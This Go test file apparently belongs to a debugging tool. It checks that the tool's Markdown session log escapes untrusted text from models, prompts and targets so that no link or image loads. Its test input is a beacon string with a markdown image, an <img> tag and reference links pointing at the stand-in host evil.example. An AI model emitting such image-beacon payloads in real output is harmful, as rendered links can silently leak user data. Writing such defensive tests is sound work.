package session_test

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/pausetui/pausetui/debugger"
	"github.com/pausetui/pausetui/patch"
	"github.com/pausetui/pausetui/session"
	"github.com/pausetui/pausetui/source/evidence"
	"github.com/pausetui/pausetui/verify/verdict"
)

// spans are code within a line: nothing in it is markdown.
var spans = regexp.MustCompile("`[^`\n]*`")

// TestTheMarkdownLogLoadsNothing: looking at a log must not load what a model, a
// candidate or a target has named in it, nor hide where a link leads.
func TestTheMarkdownLogLoadsNothing(t *testing.T) {
	const beacon = "a ` `` ![b](https://evil.example/?d=1) \\![b] [b][b] <img src=https://evil.example>\n[b]: https://evil.example"
	frame := debugger.Frame{Function: "main." + beacon, File: "/m/" + beacon, User: true, Loaded: true}
	stop := debugger.Stop{Reason: debugger.ReasonPanic, Panic: &debugger.Panic{Class: debugger.Custom, Message: beacon}, Frames: []debugger.Frame{frame}}
	source := patch.Source{Provider: "ollama", Model: beacon, Prompt: beacon}
	var events []session.Event
	for i, b := range []session.Body{
		&session.BuildFailed{Message: beacon},
		&session.Stopped{Stop: stop},
		&session.Diagnosed{Diagnosis: evidence.Diagnosis{Sentence: beacon}},
		&session.Asked{Source: source},
		&session.Proposed{Candidate: patch.Candidate{ID: "c1", Title: beacon, Explanation: beacon, Warnings: []string{beacon}, Source: source}},
		&session.Proved{Candidate: "c1", Verdict: verdict.Verdict{
			Checks:   []verdict.Check{{Name: verdict.Rerun, Status: verdict.Fail, Detail: beacon}},
			Evidence: []verdict.Evidence{{Kind: verdict.ByTests, Detail: beacon}},
		}},
		&session.Probed{Tool: "eval", Arguments: map[string]string{"expression": beacon}, Err: beacon},
		&session.Replied{Text: beacon, Source: source},
		&session.Committed{Candidate: "c1", Hash: "1", Subject: beacon},
		&session.Notice{Level: "warn", Text: beacon, Hint: beacon},
	} {
		events = append(events, session.Event{Seq: uint64(i + 1), At: time.Unix(0, 0), Body: b})
	}
	_, text, _ := strings.Cut(string(session.Markdown(events)), "\n---\n") // the front matter is data
	fence, seen := "", 0
	for line := range strings.Lines(text) {
		line = strings.TrimRight(line, "\n")
		mark := line[:len(line)-len(strings.TrimLeft(line, "`"))]
		switch {
		case fence == "" && len(mark) >= 3:
			fence = mark
			continue
		case fence != "":
			if line == fence {
				fence = ""
			}
			continue
		}
		seen += strings.Count(line, "evil.example")
		for _, bad := range []string{"![", "](", "][", "]:", "<img"} {
			if strings.Contains(spans.ReplaceAllString(line, ""), bad) {
				t.Errorf("%q in %q", bad, line)
			}
		}
	}
	if seen < 10 {
		t.Errorf("the attack is there only %d times", seen)
	}
}
